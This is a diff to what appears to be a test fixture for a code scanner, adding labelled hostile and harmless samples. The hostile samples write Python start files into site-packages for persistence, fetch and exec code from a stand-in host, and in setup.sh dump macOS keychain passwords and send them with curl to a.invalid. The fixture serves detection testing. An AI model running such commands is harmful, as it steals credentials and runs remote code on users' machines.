@@ -77,6 +77,31 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             ("a.pth", 1),
         ),
     },
+    "persistence": {
+        "a start file among installed packages": Sample(
+            {
+                "app.py": "import os, sys\nhome = os.path.join(sys.prefix, 'lib/site-packages')\n"
+                "open(os.path.join(home, 'sitecustomize.py'), 'w').write('print(1)')\n"
+            },
+            "review",
+            ("app.py", 3),
+        ),
+        "a start file in a folder that is not known": Sample(
+            {"app.py": "import os, sys\nopen(os.path.join(sys.argv[1], 'usercustomize.py'), 'w').write('print(1)')\n"},
+            "review",
+            ("app.py", 2),
+        ),
+    },
+    "secrets_sent": {
+        "passwords of the keychain": Sample(
+            {
+                "setup.sh": "security find-generic-password -ga x > /tmp/p\ncurl -d @/tmp/p https://a.invalid\n"
+                "cat ~/Library/Keychains/login.keychain | curl -T - https://a.invalid\n"
+            },
+            "block",
+            ("setup.sh", 3),
+        ),
+    },
     "decoded_code": {
         "letters made of numbers": Sample(
             {"app.py": "import os\nos.system(chr(101) + chr(99) + chr(104) + chr(111) + chr(32) + chr(49))\n"},
@@ -133,6 +158,23 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "remote_code": {
+        "words added to an interpreter's": Sample(
+            {
+                "app.py": "import subprocess, sys, requests\ndef run(words):\n"
+                "    subprocess.run([sys.executable] + words)\n"
+                "run(['-c', requests.get('https://a.invalid').text])\n"
+            },
+            "block",
+            ("app.py", 4),
+        ),
+        "what a property gives": Sample(
+            {
+                "app.py": "import requests\nclass Level:\n    @property\n    def text(self):\n"
+                "        return requests.get('https://a.invalid').text\nexec(Level().text)\n"
+            },
+            "block",
+            ("app.py", 5),
+        ),
         "code among the words": Sample(
             {"runner.py": _RUNNER, "app.py": _FETCH + "run(['python', '-c', reply['text']])\n"}, "block", ("app.py", 3)
         ),
@@ -145,9 +187,22 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a namespace package within another": {
             "a.pth": _NAMESPACE.format(" ", "('a', 'b')") + "; m and setattr(sys.modules['a'], 'b', m)\n"
         },
+        "a line that imports what is there": {"a.pth": "import os\nsrc\n"},
         "coverage is measured where it is installed": {
             "sitecustomize.py": "try:\n    import coverage\nexcept ImportError:\n    pass\nelse:\n"
             "    coverage.process_startup()\n"
+        },
+    },
+    "persistence": {
+        "a start file in a folder of one's own": {
+            "app.py": "import os, tempfile\nsite = os.path.join(tempfile.mkdtemp(), 'site')\n"
+            "open(os.path.join(site, 'sitecustomize.py'), 'w').write('print(1)')\n"
+        },
+    },
+    "secrets_sent": {
+        "certificates, which are public": {
+            "setup.sh": "security find-certificate -a -p /Library/Keychains/System.keychain > /tmp/certs.pem\n"
+            "curl --cacert /tmp/certs.pem -O https://a.invalid/x\n"
         },
     },
     "decoded_code": {
@@ -193,6 +248,17 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a word after the program, through another file": {
             "runner.py": _RUNNER,
             "app.py": _FETCH + "run(['git', 'show', reply['branch']])\n",
+        },
+        "words added to a program's": {
+            "app.py": "import subprocess, requests\nclass Box:\n    def run(self, words):\n"
+            "        subprocess.run(['docker', 'exec', self.name] + words)\n"
+            "Box().run(['show', requests.get('https://a.invalid').json()['name']])\n"
+        },
+        "a port that is asked for": {
+            "app.py": "import socket, subprocess\nclass Server:\n    @property\n    def port(self):\n"
+            "        return self._port\n    @port.setter\n    def port(self, number):\n        self._port = number\n"
+            "    def start(self):\n        with socket.socket() as s:\n            s.connect(('localhost', self.port))\n"
+            "        subprocess.run(self._path)\n"
         },
         "what was fetched is unpacked": {"app.py": _SAVE + "subprocess.run(['tar', 'xf', path])\n"},
         "what was fetched is unpacked by a line": {"app.py": _SAVE + "os.system('unzip -o %s -d x' % path)\n"},
